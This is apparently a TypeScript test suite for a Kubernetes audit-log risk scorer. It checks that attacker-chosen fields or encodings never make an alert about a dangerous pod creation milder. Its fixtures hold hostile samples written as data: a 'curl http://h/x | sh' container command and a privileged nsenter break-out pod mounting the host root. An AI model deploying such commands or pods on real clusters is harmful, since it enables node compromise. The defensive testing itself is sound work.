/**
 * What a client chooses never makes an alert milder: for each field of the table that is only its word, over
 * made-up and real events, benign and dangerous. And the same attack written in the ways that used to hide
 * it.
 */
import { type CreationContext, select } from '@arrivals/core';
import {
  assessRisk,
  canonicalImage,
  EVENT_FIELDS,
  type EventField,
  EXCUSES,
  isEvidence,
  readAuditEvent,
  type Risk,
} from '@arrivals/core/internal';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import {
  answeredPartially,
  atLevelMetadata,
  atLevelRequest,
  CONTAINER,
  type Json,
  podCreated,
  truncated,
  unseenContext,
} from '../alert/creations.ts';
import { readScenarios, type ScenarioCreation } from '../context/creations.ts';
import { SEED } from '../samples.ts';
import { changed, CLIENT_FIELDS } from './client-fields.ts';
import { as, capable, CONTROLLER, hostPath, LISTS, OWNED, owned, PRIVILEGED } from './risks.ts';

const ORDER = ['informational', 'low', 'medium', 'high', 'critical'] as const;

type ContextOf = (event: Json) => CreationContext | null | undefined;

function riskOf(raw: Json, contextOf: ContextOf): Risk {
  const event = readAuditEvent(raw);
  const selection = select(event);
  assert.ok('created' in selection);
  const context = contextOf(raw);
  return assessRisk({
    event,
    created: selection.created,
    lists: LISTS,
    ...(context === undefined ? {} : { context }),
  });
}

/** Where the one excuse that reads an image's name holds. */
function mayBeInfrastructure(event: Json): boolean {
  const { user, objectRef } = event as { user: { username?: string }; objectRef: { namespace?: string } };
  return (
    objectRef.namespace === 'kube-system' &&
    /-controller$|^system:node:|^system:kube-controller-manager$/.test(user.username ?? '')
  );
}

function assertNotMilder(plain: Json, odd: Json, contextOf: ContextOf): void {
  const [before, after] = [riskOf(plain, contextOf), riskOf(odd, contextOf)];
  const say = `${before.severity} ${String(before.score)} became ${after.severity} ${String(after.score)}: ${JSON.stringify(odd)}`;
  assert.ok(
    after.score >= before.score && ORDER.indexOf(after.severity) >= ORDER.indexOf(before.severity),
    say,
  );
}

const FIELDS = (Object.keys(EVENT_FIELDS) as readonly EventField[]).filter((field) => !isEvidence(field));

const ACTORS: readonly (readonly [event: Json, metadata: Json])[] = [
  [as('alice'), {}],
  [as('system:admin', 'system:masters'), {}],
  [as('system:anonymous', 'system:unauthenticated'), {}],
  [as('system:serviceaccount:ci:deployer'), {}],
  [as('system:serviceaccount:kube-system:helm'), {}],
  [
    {
      user: {
        username: 'system:serviceaccount:web:www',
        groups: [],
        extra: { 'authentication.kubernetes.io/pod-name': ['www-1'] },
      },
    },
    {},
  ],
  [{ impersonatedUser: CONTROLLER.user }, {}],
  [CONTROLLER, OWNED],
  [as('system:kube-controller-manager'), OWNED],
  [as('system:node:n-1', 'system:nodes'), owned('v1', 'Node', 'n-1')],
];

const SPECS: readonly Json[] = [
  {},
  { hostPID: true },
  { hostNetwork: true, hostIPC: true, nodeName: 'n-1' },
  hostPath('/'),
  hostPath('/run/containerd/containerd.sock', true),
  hostPath('/etc', true),
  { containers: [{ ...CONTAINER, ...PRIVILEGED }] },
  {
    containers: [
      { ...CONTAINER, ...capable('SYS_ADMIN') },
      { name: 'b', image: 'ubuntu', command: ['sh', '-c', 'curl http://h/x | sh'] },
    ],
  },
  {
    containers: [{ ...CONTAINER, ...PRIVILEGED, command: ['/usr/local/bin/kube-proxy'] }],
    hostNetwork: true,
  },
];

const anyCreation: fc.Arbitrary<Json> = fc
  .record({
    actor: fc.constantFrom(...ACTORS),
    spec: fc.constantFrom(...SPECS),
    namespace: fc.constantFrom('shop', 'kube-system', 'kube-systern'),
    recorded: fc.constantFrom(
      (event: Json) => event,
      atLevelMetadata,
      atLevelRequest,
      truncated,
      answeredPartially,
    ),
  })
  .map(({ actor: [event, metadata], spec, namespace, recorded }) =>
    recorded(podCreated({ event, spec, metadata: { ...metadata, name: 'plain', namespace } })),
  );

const CONTEXTS: readonly ContextOf[] = [
  () => undefined,
  () => null,
  (raw) => unseenContext('Pod', readAuditEvent(raw)),
];

describe('what a client chooses', () => {
  it('has a variation for each field of the table that is only a word', () => {
    assert.deepEqual(Object.keys(CLIENT_FIELDS).sort(), [...FIELDS].sort());
  });

  for (const field of FIELDS) {
    const { without, with: odd } = CLIENT_FIELDS[field] ?? assert.fail(field);

    it(`never makes a creation milder by ${field}`, () => {
      fc.assert(
        fc.property(anyCreation, odd, fc.constantFrom(...CONTEXTS), (event, write, contextOf) => {
          if (field === 'object.spec.containers.image' && mayBeInfrastructure(event)) return;
          const [plain, written] = [without(event), write(event)];
          if (plain !== undefined && written !== undefined) assertNotMilder(plain, written, contextOf);
        }),
        { seed: SEED, numRuns: 300 },
      );
    });
  }

  it('counts only with the controller’s own account, where it counts at all', () => {
    assert.ok(
      EXCUSES.filter(({ rests }) => rests.includes('object.spec.containers.image')).every(
        ({ because }) => because !== undefined,
      ),
    );
  });

  it('leaves an image what it is, however it is written', () => {
    const same: readonly (readonly [image: string, others: readonly string[]])[] = [
      [
        'ubuntu',
        [
          'docker.io/ubuntu',
          'docker.io/library/ubuntu:22.04',
          'index.docker.io/library/ubuntu',
          'Docker.io:443/library/ubuntu@sha256:0',
          'docker.io./ubuntu',
        ],
      ],
      ['quay.io/calico/node', ['quay.io:443/calico/node:v3', 'QUAY.io/calico/node@sha256:0']],
      [
        '602401143452.dkr.ecr.eu-west-1.amazonaws.com/eks/kube-proxy',
        ['602401143452.dkr.ecr.us-east-2.amazonaws.com/eks/kube-proxy:v1'],
      ],
    ];
    for (const [image, others] of same)
      for (const other of others) assert.equal(canonicalImage(other), canonicalImage(image), other);
    for (const other of [
      '602401143452.dkr.ecr.x.example.com/eks/kube-proxy',
      'a602401143452.dkr.ecr.eu-west-1.amazonaws.com/eks/kube-proxy',
    ])
      assert.notEqual(
        canonicalImage(other),
        canonicalImage('602401143452.dkr.ecr.eu-west-1.amazonaws.com/eks/kube-proxy'),
      );
  });

  describe('in the scenarios of the captures', () => {
    let creations: readonly ScenarioCreation[];
    before(async () => {
      creations = (await readScenarios(true)).filter(({ created }) => created === 'Pod');
    });

    it('makes none of them milder, whatever the stream has shown', () => {
      assert.ok(creations.length > 100);
      for (const field of FIELDS) {
        const { without, with: odd } = CLIENT_FIELDS[field] ?? assert.fail(field);
        // What the stream has shown belongs to these names and images.
        if (
          field === 'object.metadata.name' ||
          field === 'objectRef.name' ||
          field === 'object.spec.containers.image'
        )
          continue;
        const writes = fc.sample(odd, { seed: SEED, numRuns: 3 });
        for (const { event, context } of creations) {
          const raw = rawOf(event);
          for (const write of writes) {
            const [plain, written] = [without(raw), write(raw)];
            if (plain !== undefined && written !== undefined) assertNotMilder(plain, written, () => context);
          }
        }
      }
    });
  });
});

/** As the server wrote it, as far as risk reads it. */
function rawOf(event: ScenarioCreation['event']): Json {
  const { auditId, requestUri, sourceIps, objectRef, code, impersonatedUser, ...rest } = event;
  const raw = {
    ...rest,
    auditID: auditId,
    requestURI: requestUri,
    sourceIPs: sourceIps,
    objectRef: { ...objectRef },
    responseStatus: { code },
    impersonatedUser,
  };
  return JSON.parse(JSON.stringify(raw)) as Json;
}

describe('a break-out', () => {
  const FULL: Json = {
    containers: [
      {
        name: 'c',
        image: 'alpine:3',
        command: ['nsenter', '-t', '1', '-m', 'sh'],
        ...PRIVILEGED,
        volumeMounts: [{ name: 'h', mountPath: '/host' }],
      },
    ],
    hostPID: true,
    volumes: [{ name: 'h', hostPath: { path: '/' } }],
  };
  const stolen = {
    user: {
      username: 'system:serviceaccount:web:www',
      groups: [],
      extra: { 'authentication.kubernetes.io/pod-name': ['www-1'] },
    },
  };
  const severity = (event: Json) => riskOf(event, () => undefined).severity;
  const applied = (event: Json) => ({
    ...atLevelMetadata(event),
    verb: 'patch',
    responseStatus: { code: 201 },
  });

  for (const [what, write] of [
    ['server-side apply, which our policy records without its body', applied],
    ['padding, until the API server cuts the event', truncated],
    [
      'an answer of another shape to server-side apply',
      (event: Json) => ({ ...answeredPartially(event), verb: 'patch' }),
    ],
  ] as const)
    it(`is MEDIUM at least by ${what}, and more by what is known`, () => {
      const root = podCreated({ spec: FULL });
      assert.equal(severity(root), 'critical');
      assert.ok(ORDER.indexOf(severity(write(root))) >= 2, severity(write(root)));
      const inSystem = write(
        podCreated({ spec: FULL, metadata: { namespace: 'kube-system', name: 'kube-proxy-x7k2p' } }),
      );
      assert.ok(ORDER.indexOf(severity(inSystem)) >= 3, severity(inSystem));
      const annotations = {
        'pod-security.kubernetes.io/enforce-policy': 'privileged:latest',
        'authorization.k8s.io/reason': '',
      };
      const more = write(podCreated({ spec: FULL, event: { ...stolen, annotations } }));
      assert.ok(ORDER.indexOf(severity(more)) >= 3, severity(more));
    });

  it('that nobody saw is what admission reports', () => {
    const violations =
      'would violate PodSecurity "restricted:latest": host namespaces (hostPID=true), privileged (container "c" must not set securityContext.privileged=true)';
    const event = podCreated({
      spec: FULL,
      event: { annotations: { 'pod-security.kubernetes.io/audit-violations': violations } },
    });
    const { signals } = riskOf(applied(event), () => undefined);
    assert.match(
      signals.find(({ id }) => id === 'unseen-spec-violations')?.text ?? '',
      /: privileged, host namespaces\.$/,
    );
    const quoted = changed(event, ['annotations'], () => ({
      'pod-security.kubernetes.io/audit-violations': 'runAsNonRoot != true (pod "privileged (")',
    }));
    assert.ok(
      !riskOf(applied(quoted), () => undefined).signals.some(({ id }) => id === 'unseen-spec-violations'),
    );
  });

  it('is as severe with an owner that every namespace has as without', () => {
    const without = podCreated({ spec: hostPath('/'), event: stolen });
    const withOwner = podCreated({
      spec: hostPath('/'),
      event: stolen,
      metadata: owned('v1', 'ConfigMap', 'kube-root-ca.crt'),
    });
    assert.deepEqual([severity(without), severity(withOwner)], ['critical', 'critical']);
    assert.equal(riskOf(withOwner, () => undefined).score, 100);
  });

  it('is not asked of what Kubernetes itself makes, where a policy records it without bodies', () => {
    for (const event of [
      CONTROLLER,
      as('system:node:n-1', 'system:nodes'),
      as('system:kube-controller-manager'),
    ])
      assert.equal(riskOf(atLevelMetadata(podCreated({ event, metadata: OWNED })), () => undefined).score, 0);
    assert.equal(severity(truncated(podCreated({ event: CONTROLLER, metadata: OWNED }))), 'medium');
  });
});
